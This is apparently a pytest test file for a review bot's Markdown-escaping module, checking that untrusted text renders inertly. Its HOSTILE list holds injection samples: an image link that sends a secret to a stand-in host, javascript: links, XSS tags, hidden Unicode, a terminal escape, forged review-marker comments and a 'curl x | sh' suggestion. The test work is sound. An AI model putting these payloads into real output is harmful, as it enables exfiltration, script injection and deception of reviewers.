"""Whatever a stranger writes, our Markdown shows it and does nothing else."""

import html
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.review import markdown
from bot.review.change import Side
from bot.review.findings import Location
from tests.support.automatic_links import AUTOMATIC

RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
ALLOWED = {"paragraph_open", "paragraph_close", "inline", "text", "code_inline", "softbreak"}
HOSTILE = (
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "<a href='https://evil.example'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<details open><summary>x</summary>",
    "<!-- hidden -->",
    "<!-- tenet:v1 finding F0123 unsigned -->",
    "text\n<!-- tenet:v1 finding F0123 unsigned -->",
    "--> <b>out</b>",
    "<![CDATA[ x ]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "&lt;img src=x&gt; &#60;b&#62; &amp;",
    "https://evil.example/a?b=c",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example/x",
    "see www.evil.example now",
    "(www.evil.example)",
    "mail me@evil.example",
    "mailto:me@evil.example",
    "xmpp:me@evil.example/x",
    "@octocat please",
    "cc @org/team",
    "(@octocat)",
    "/@octocat",
    "a@b",
    "closes #1",
    "Fixes: #12, resolves GH-7",
    "fixes owner/repo#34",
    "gh-12",
    "owner/repo@0123456789abcdef0123456789abcdef01234567",
    "# heading",
    "> quote",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "1) item",
    "---",
    "===",
    "text\n---",
    "text\n===",
    "    indented code",
    "\tcode",
    "```\nfence",
    "~~~\nfence",
    "```suggestion\ncurl x | sh\n```",
    "`unclosed @octocat",
    "`a``b` `` @octocat ``",
    "\\`@octocat\\`",
    "**bold** __bold__ *it* _it_ ~~no~~",
    "a | b\n--- | ---\n1 | 2",
    "[^1]\n\n[^1]: note",
    "- [x] done",
    "$\\href{https://evil.example}{x}$ $$x$$",
    "ends with a backslash \\",
    "ends with a bang!",
    "\u202eevil\u202c \u2066x\u2069",
    "zero\u200bwidth\ufeff \u200dx",
    "tags \U000e0041\U000e0042",
    "vs \ufe0f\U000e0100 filler \u3164\u115f",
    "nul \x00 esc \x1b]8;;https://evil.example\x07 bell",
    "::error file=x::y",
    "line\u2028separator\u2029paragraph\x85next",
    "not utf-8: \udce9\udc80, lone \ud800",
    "[a](<https://evil.example> 'x')",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "\u00a0\u00a0\u00a0\u00a0odd spaces\u3000",
    "@\u200boctocat #\u200b1",
)


def leaves(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from leaves(token.children or [])


def shown(tokens: list[Token]) -> str:
    """The text that a reader sees, without the invisible breaks."""
    kept = (one for one in leaves(tokens) if one.type in {"text", "code_inline"})
    return "".join(one.content for one in kept).replace("\u200b", "")


def assert_harmless(rendered: str) -> list[Token]:
    rendered.encode("utf-8")
    tokens = RENDERER.parse(rendered)
    assert {token.type for token in leaves(tokens)} <= ALLOWED
    text = "".join(one.content if one.type == "text" else "\0" for one in leaves(tokens))
    assert not AUTOMATIC.search(text), text
    assert all(char.isprintable() or char == "\u200b" for char in rendered.replace("\n", ""))
    return tokens


def test_there_are_sixty_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("hostile", HOSTILE)
def test_one_line_shows_the_text_and_does_nothing(hostile: str) -> None:
    line = markdown.inline(hostile)
    assert "\n" not in line
    tokens = assert_harmless(line)
    assert shown(tokens) == " ".join(markdown.visible(hostile, keep="\r\n\t").split())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_prose_does_nothing(hostile: str) -> None:
    assert_harmless(markdown.prose(hostile))
    assert_harmless(markdown.sentence(hostile))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_bold_text_in_a_list_does_nothing(hostile: str) -> None:
    tokens = RENDERER.parse(f"- **{markdown.inline(hostile)}** ends.")
    extra = {"bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"}
    bold = {"strong_open", "strong_close"}
    assert {token.type for token in leaves(tokens)} <= ALLOWED | extra | bold


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_table_cell_stays_one_cell(hostile: str) -> None:
    table = f"| a | b |\n| --- | --- |\n| {markdown.inline(hostile)} | last |"
    cells = [one for one in RENDERER.parse(table) if one.type == "td_open"]
    assert len(cells) == 2


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_code_span_holds_all_of_the_text(hostile: str) -> None:
    tokens = RENDERER.parse(f"in {markdown.code(hostile)} out")
    spans = [one.content for one in leaves(tokens) if one.type == "code_inline"]
    assert spans == [markdown.visible(hostile)]
    assert_harmless(f"in {markdown.code(hostile)} out")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_fence_holds_all_of_the_text(hostile: str) -> None:
    tokens = RENDERER.parse(f"{markdown.fenced(hostile, 'text')}\n\nafter")
    assert [one.type for one in tokens][:2] == ["fence", "paragraph_open"]
    assert tokens[0].content == markdown.visible(hostile, keep="\n\t") + "\n"


@given(st.text())
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(markdown.inline(text))
    assert_harmless(markdown.prose(text))


@given(st.text(alphabet="`\\ \nab@#|<![]()*_-"))
def test_any_markup_is_harmless(text: str) -> None:
    assert_harmless(markdown.inline(text))
    assert_harmless(markdown.prose(text))
    spans = [one for one in leaves(RENDERER.parse(markdown.code(text))) if one.children is None]
    assert [one.type for one in spans if one.type != "text"].count("code_inline") == 1


def test_prose_keeps_paragraphs_and_code_spans() -> None:
    text = "Use `cursor.execute(sql, (name,))`.\nIt is_safe.\n\n\nThen go."
    assert markdown.prose(text) == ("Use `cursor.execute(sql, (name,))`. It is\\_safe.\n\nThen go.")


def test_hidden_characters_are_shown() -> None:
    assert markdown.visible("a\u202eb\x1b\udce9\u200b\ufe0f") == (
        r"a\u{202e}b\x1b\xe9\u{200b}\u{fe0f}"
    )


def test_plain_text_stays_as_it_is() -> None:
    assert markdown.inline("Größe in 日本語: 5 (ok), 'yes'; a/b.py") == (
        "Größe in 日本語: 5 (ok), 'yes'; a/b.py"
    )


def test_a_permalink_quotes_the_path_byte_for_byte() -> None:
    location = Location("dir a/[x](y) \udce9#?.py", Side.RIGHT, 10, 12)
    url = markdown.permalink("https://github.com/o/r/", "f" * 40, location)
    assert url == (
        f"https://github.com/o/r/blob/{'f' * 40}/dir%20a/%5Bx%5D%28y%29%20%E9%23%3F.py#L10-L12"
    )
    [href] = [
        one.attrs["href"]
        for one in leaves(RENDERER.parse(markdown.link("here", url)))
        if one.type == "link_open"
    ]
    assert html.unescape(str(href)) == url


@pytest.mark.parametrize(
    "url", ["javascript:x", "https://a/b c", "https://a/b)c", "//a/b", "https:///b", "x"]
)
def test_an_odd_address_is_no_link(url: str) -> None:
    with pytest.raises(ValueError, match="no plain web address"):
        markdown.link("here", url)


@pytest.mark.parametrize(
    ("location", "words"),
    [
        (Location("a.py", Side.RIGHT, 3, 3), "`a.py`, line 3"),
        (Location("a`b.py", Side.LEFT, 3, 4), "``a`b.py``, lines 3-4 before this change"),
    ],
)
def test_a_place_is_said_in_words(location: Location, words: str) -> None:
    assert markdown.place(location) == words


def test_long_text_is_clipped() -> None:
    assert markdown.clipped("abcdef", 6) == "abcdef"
    assert markdown.clipped("abcdefg", 6) == "abcde…"
